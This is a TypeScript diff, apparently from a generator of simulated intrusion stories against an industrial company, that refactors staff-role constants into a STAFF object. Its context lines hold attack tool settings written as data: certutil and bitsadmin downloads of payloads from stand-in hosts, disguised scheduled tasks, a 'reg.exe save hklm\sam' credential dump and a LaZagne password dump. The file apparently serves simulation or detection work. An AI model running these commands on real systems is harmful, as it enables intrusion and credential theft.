@@ -1,7 +1,7 @@
 import type { Step, Story } from '../kit/pack.ts'
 import { openMail, reachControl, reachJump, readDrawings, takeServer, tirePlanner } from './acts.ts'
 import type { Intrusion, Tools } from './acts.ts'
-import { plantOf } from './company.ts'
+import { plantOf, STAFF } from './company.ts'
 
 type Provider = readonly [asn: number, city: string, country: string]
 
@@ -20,7 +20,7 @@ function mailed(one: Intrusion, steps: readonly Step[], reach: 'server' | 'jump'
   return storyOf(one, steps, held.slice(0, ['server', 'jump', 'station'].indexOf(reach) + 1).flat())
 }
 
-const signedIn = (one: Intrusion, steps: readonly Step[]): Story => storyOf(one, steps, [one.plant.staff[PLANNER]!.account, one.address])
+const signedIn = (one: Intrusion, steps: readonly Step[]): Story => storyOf(one, steps, [one.plant.staff[STAFF.planner]!.account, one.address])
 
 const SHELL = 'System32\\WindowsPowerShell\\v1.0\\powershell.exe'
 const TEMP = 'C:\\Windows\\Temp'
@@ -35,20 +35,17 @@ const archives: Tools = { document: 'EXCEL.EXE', interpreter: 'System32\\cscript
 const fetchers: Tools = { document: 'WINWORD.EXE', interpreter: 'System32\\certutil.exe', given: '-urlcache -f https://d.safety-sheet.example/m.b64 C:\\Users\\Public\\m.b64', task: 'EdgeUpdateUA', taskRuns: ['C:\\Users\\Public\\m.exe', '-q'], dump: ['C:\\Windows\\System32\\reg.exe', 'reg.exe save hklm\\sam C:\\Users\\Public\\s.hiv'] }
 const jobs: Tools = { document: 'ONENOTE.EXE', interpreter: 'System32\\bitsadmin.exe', given: '/transfer n https://v.year-end.example/v.exe C:\\Users\\Public\\v.exe', task: 'WindowsTips', taskRuns: ['C:\\Users\\Public\\v.exe', '/background'], dump: [`${TEMP}\\lz.exe`, 'lz.exe lazagne all -oA'] }
 
-const OPERATOR = 3
-const CLERK = 4
-const PLANNER = 5
-const lyon2024 = intrusion('i01', 'LYO', 41, CLERK, scripts)
-const ghentSpring = intrusion('i02', 'GNT', 52, PLANNER, scripts)
-const porto2024 = intrusion('i03', 'PRT', 63, CLERK, sheets)
-const linz2024 = intrusion('i04', 'LNZ', 74, CLERK, notes)
-const brno2024 = intrusion('i05', 'BRN', 85, PLANNER, scripts)
-const ghentAutumn = intrusion('i06', 'GNT', 96, CLERK, libraries)
-const porto2025 = intrusion('i07', 'PRT', 107, PLANNER, scripts)
-const lyon2025 = intrusion('i08', 'LYO', 118, PLANNER, consoles, 1)
-const linz2025 = intrusion('i09', 'LNZ', 129, PLANNER, archives, 1)
-const brno2025 = intrusion('i10', 'BRN', 140, CLERK, fetchers)
-const lyonNow = intrusion('i11', 'LYO', 151, OPERATOR, jobs, 2)
+const lyon2024 = intrusion('i01', 'LYO', 41, STAFF.clerk, scripts)
+const ghentSpring = intrusion('i02', 'GNT', 52, STAFF.planner, scripts)
+const porto2024 = intrusion('i03', 'PRT', 63, STAFF.clerk, sheets)
+const linz2024 = intrusion('i04', 'LNZ', 74, STAFF.clerk, notes)
+const brno2024 = intrusion('i05', 'BRN', 85, STAFF.planner, scripts)
+const ghentAutumn = intrusion('i06', 'GNT', 96, STAFF.clerk, libraries)
+const porto2025 = intrusion('i07', 'PRT', 107, STAFF.planner, scripts)
+const lyon2025 = intrusion('i08', 'LYO', 118, STAFF.planner, consoles, 1)
+const linz2025 = intrusion('i09', 'LNZ', 129, STAFF.planner, archives, 1)
+const brno2025 = intrusion('i10', 'BRN', 140, STAFF.clerk, fetchers)
+const lyonNow = intrusion('i11', 'LYO', 151, STAFF.operator, jobs, 2)
 
 const TALLINN: Provider = [64701, 'Tallinn', 'EE']
 const SOFIA: Provider = [64702, 'Sofia', 'BG']
